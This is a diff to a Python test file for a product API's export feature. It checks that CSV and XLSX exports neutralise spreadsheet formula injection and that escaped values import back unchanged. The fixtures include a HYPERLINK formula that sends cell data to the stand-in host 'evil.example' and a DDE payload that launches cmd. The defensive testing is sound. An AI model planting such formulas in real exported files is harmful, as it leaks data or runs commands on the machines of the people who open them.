@@ -4,6 +4,7 @@ import csv
 import io
 import json
 import re
+import threading
 import zipfile
 
 import httpx
@@ -137,3 +138,74 @@ async def test_large_export_runs_as_job(
     assert status.json()["state"] == "completed"
     r = await client.get("/api/exports/nope/download", headers=viewer_headers)
     assert r.status_code == 404
+
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+async def test_cells_a_spreadsheet_would_run_are_neutralised(
+    client: httpx.AsyncClient, editor_headers: Headers
+) -> None:
+    await create_product(
+        client,
+        editor_headers,
+        title=FORMULA_TITLE,
+        vendor="@Acme",
+        product_type="-Tees",
+        description_html="+1+cmd|' /C calc'!A0",
+    )
+    ours = list(csv.DictReader(io.StringIO((await export(client, editor_headers, "csv")).text)))
+    assert ours[0]["title"] == "'" + FORMULA_TITLE
+    assert (ours[0]["vendor"], ours[0]["product_type"]) == ("'@Acme", "'-Tees")
+    assert ours[0]["description_html"].startswith("'+1")
+    assert ours[0]["price"] == "19.99"  # numbers stay numbers
+    shopify = (await export(client, editor_headers, "shopify_csv")).text
+    first = next(csv.DictReader(io.StringIO(shopify)))
+    assert (first["Title"], first["Vendor"]) == ("'" + FORMULA_TITLE, "'@Acme")
+
+    r = await client.post(
+        "/api/products/batch/export",
+        json={"format": "shopify_csv", "filter": {}, "protect_formulas": False},
+        headers=editor_headers,
+    )
+    assert next(csv.DictReader(io.StringIO(r.text)))["Title"] == FORMULA_TITLE
+
+    xlsx = (await export(client, editor_headers, "xlsx")).content
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # written as text, never as a formula
+    assert "HYPERLINK" in sheet
+
+
+async def test_neutralised_export_imports_back_unchanged(
+    client: httpx.AsyncClient, editor_headers: Headers
+) -> None:
+    original = await create_product(
+        client, editor_headers, title=FORMULA_TITLE, vendor="'=already quoted"
+    )
+    text = (await export(client, editor_headers, "csv")).text
+    files = {"file": ("products.csv", text.encode(), "text/csv")}
+    r = await client.post("/api/products/import", files=files, headers=editor_headers)
+    assert r.status_code == 200, r.text
+    product = (await client.get(f"/api/products/{original['id']}", headers=editor_headers)).json()
+    assert (product["title"], product["vendor"]) == (FORMULA_TITLE, "'=already quoted")
+    assert product["version"] == original["version"]  # nothing changed, so nothing was written
+
+
+async def test_xlsx_is_encoded_off_the_event_loop(
+    client: httpx.AsyncClient, editor_headers: Headers, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from xlsxwriter.worksheet import Worksheet
+
+    threads: list[threading.Thread] = []
+    write_row = Worksheet.write_row
+
+    def recording(self: Worksheet, *args: object, **kwargs: object) -> object:
+        threads.append(threading.current_thread())
+        return write_row(self, *args, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(Worksheet, "write_row", recording)
+    await create_product(client, editor_headers)
+    await export(client, editor_headers, "xlsx")
+    chunk_rows = threads[1:]  # the header row is written before any chunk
+    assert chunk_rows and threading.current_thread() not in chunk_rows
